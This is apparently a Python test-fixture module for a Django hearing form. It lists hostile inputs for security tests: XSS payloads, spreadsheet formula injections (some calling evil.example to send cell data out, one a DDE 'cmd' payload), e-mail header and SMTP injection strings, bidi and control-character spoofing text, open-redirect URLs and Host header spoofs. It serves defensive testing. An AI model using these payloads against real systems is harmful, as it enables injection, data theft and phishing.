"""第6条: what an attacker types, for every test that shows, sends, exports or redirects what somebody typed.

Each text is one line of at most 100 characters, so that it fits into every field of the hearing form; none holds
anybody's data. A script of `SCRIPTS` that runs sets `RAN` on the page's window: a browser test asks for it at the
end, besides the violations of the Content-Security-Policy and dialogs.
"""

RAN = "corpusRan"

# Text, attribute, link, script block, JSON block, style and template: wherever a page could put it unescaped.
SCRIPTS = (
    f"<script>window.{RAN}=1</script>",
    f"</script><script>window.{RAN}=1</script>",
    f"</textarea></title></style><script>window.{RAN}=1</script>",
    f"<img src=x onerror=window.{RAN}=1>",
    f'"><svg onload="window.{RAN}=1">',
    f"' autofocus onfocus='window.{RAN}=1' x='",
    f"<details open ontoggle=window.{RAN}=1>",
    f"javascript:window.{RAN}=1//",
    f'<a href="java&#115;cript:window.{RAN}=1">開く</a>',
    f"<iframe srcdoc='<script>parent.{RAN}=1</script>'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href='https://evil.example/'>",
    "<form action=https://evil.example/><button>送信</button></form>",
    "<style>@import 'https://evil.example/';</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "{{ request.user.password }}{% debug %}",
    "&lt;script&gt; &amp;#60;b&#62;",  # must come back letter by letter, neither decoded nor escaped twice
)

# How a spreadsheet's formula may begin: directly, in the full-width forms that some programs take as well, and
# behind white space, quotation marks or separators that programs drop or split at.
FORMULAS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1,1)",
    "−1+1",  # MINUS SIGN
    " =1+1",
    "　=1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "'=1+1",
    '"=1+1',
    '"",=1+1',
    '試験",=1+1,"',
    "試験;=1+1",
    "試験\t=1+1",
    '=HYPERLINK("https://evil.example/?"&A1,"開く")',
    "=cmd|' /C calc'!A0",
    '=WEBSERVICE("https://evil.example/")',
    "%0A=1+1",
)

# As e-mail addresses the form takes these: an address may begin like a formula.
FORMULA_ADDRESSES = ("=1+1@example.jp", "+1+1@example.jp", "-1+1@example.jp", "=cmd|x@example.jp")

# Line ends in every dress, with what would be a header, a body, or an SMTP command behind them.
HEADERS = (
    "taro@example.jp\nBcc: evil@evil.example",
    "taro@example.jp\r\nBcc: evil@evil.example",
    "taro@example.jp\rBcc: evil@evil.example",
    "taro@example.jp\r\n\r\n本文",
    "taro@example.jp\r\n.\r\nMAIL FROM:<evil@evil.example>",
    "taro@example.jp\x00",
    "taro@example.jp\x0bBcc: evil@evil.example",
    "taro@example.jp\x85Bcc: evil@evil.example",
    "taro@example.jp\u2028Bcc: evil@evil.example",
    "taro@example.jp%0d%0aBcc:evil@evil.example",
    "taro@example.jp, evil@evil.example",
    "taro@example.jp;evil@evil.example",
    "<evil@evil.example> taro@example.jp",
    '"taro@example.jp" <evil@evil.example>',
    # RFC 2047: an address to Django's validator, and something else to the library that decodes it.
    "=?utf-8?q?taro=0d=0aBcc:evil?=@example.jp",
    "=?utf-8?q?taro=0d=0ab?=@example.jp",
    "=?utf-8?q??=@example.jp",
    "=?unknown-8bit?b?_d1aa+++?=@xn--zca.jp",
    "=?us-ascii?b?0A0ddaaA?=@example.jp",
)

# Text that turns round, hides, or ends early: staff would read other words than were typed.
BIDI = (
    "試験\u202e郎太 験試",
    "試験\u202a太郎\u202c",
    "\u202dABC\u202c",
    "試験\u2066太郎\u2069",
    "試験\u2067太郎\u2069",
    "試験\u2028太郎",
    "試験\x00太郎",
    "試験\x08\x08太郎",
    "試験\x1b[2J太郎",
    "試験\x7f太郎",
    "試験\x9b太郎",
)

# Where a `next`, a Referer or a path must never lead.
REDIRECTS = (
    "https://evil.example/",
    "http://evil.example/",
    "//evil.example/",
    "///evil.example/",
    "////evil.example",
    "/\\evil.example/",
    "\\\\evil.example/",
    "/\t/evil.example/",
    "\thttps://evil.example/",
    " https://evil.example/",
    "https:evil.example",
    "https:///evil.example/",
    "https://testserver@evil.example/",
    "https://testserver.evil.example/",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "/admin/\r\nSet-Cookie: x=1",
    "ｈttps://evil.example/",
    "//evil。example/",
)

# What a Host header may say that is not ours.
HOSTS = (
    "evil.example",
    "testserver.evil.example",
    "testserver@evil.example",
    "evil.example:80",
    "testserver:80@evil.example",
    "testserver, evil.example",
    "testserver/../evil.example",
    "testserver\tevil.example",
    "",
    "[::1",
    "evil.example#testserver",
)
